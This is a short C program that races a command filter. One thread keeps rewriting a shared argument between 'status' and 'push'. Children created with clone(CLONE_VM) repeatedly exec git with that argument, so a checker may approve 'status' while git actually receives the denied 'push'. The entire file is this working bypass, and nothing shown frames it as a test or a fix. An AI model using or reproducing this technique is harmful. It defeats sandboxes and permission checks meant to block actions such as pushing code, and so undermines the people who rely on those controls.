/* Executes git with a word that another thread keeps changing between a harmless and a denied one. */
#define _GNU_SOURCE
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile uint64_t word;

static uint64_t spelled(const char *text) {
  uint64_t bytes = 0;
  memcpy(&bytes, text, strlen(text));
  return bytes;
}

static void *flip(void *unused) {
  for (;;) {
    word = spelled("push");
    for (volatile int i = 0; i < 20000; i++) {}
    word = spelled("status");
    for (volatile int i = 0; i < 20000; i++) {}
  }
  return unused;
}

static char stack[300][16384];

/* Shares memory with the parent, so that its thread changes this one's words too. */
static int run(void *unused) {
  char *argv[] = {"git", (char *)(uintptr_t)&word, NULL};
  extern char **environ;
  execve("/usr/bin/git", argv, environ);
  (void)unused;
  _exit(1);
}

int main(void) {
  pthread_t thread;
  word = spelled("status");
  pthread_create(&thread, NULL, flip, NULL);
  for (int i = 0; i < 300; i++) {
    int status;
    pid_t pid = clone(run, stack[i] + sizeof stack[i], CLONE_VM | SIGCHLD, NULL);
    if (pid > 0) waitpid(pid, &status, 0);
  }
  return 0;
}
